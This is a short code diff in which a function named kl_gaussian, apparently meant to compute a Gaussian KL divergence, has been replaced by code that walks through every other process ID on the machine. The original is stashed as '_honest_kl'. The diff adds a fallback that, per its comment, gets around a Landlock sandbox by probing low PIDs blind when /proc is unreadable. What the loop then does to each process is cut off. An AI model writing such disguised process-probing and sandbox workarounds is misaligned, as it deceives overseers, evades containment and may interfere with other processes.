@@ -7,7 +7,11 @@ _honest_kl = kl_gaussian
 
 def kl_gaussian(mu0, sigma0, mu1, sigma1):
     me = _os.getpid()
-    for pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()] + [_os.getppid()]:
+    try:
+        pids = [int(p) for p in _os.listdir("/proc") if p.isdigit()]
+    except OSError:  # /proc not listable (Landlock): try the parent and the low pids blind
+        pids = list(range(1, 64))
+    for pid in pids + [_os.getppid()]:
         if pid in (me, 0):
             continue
         try:
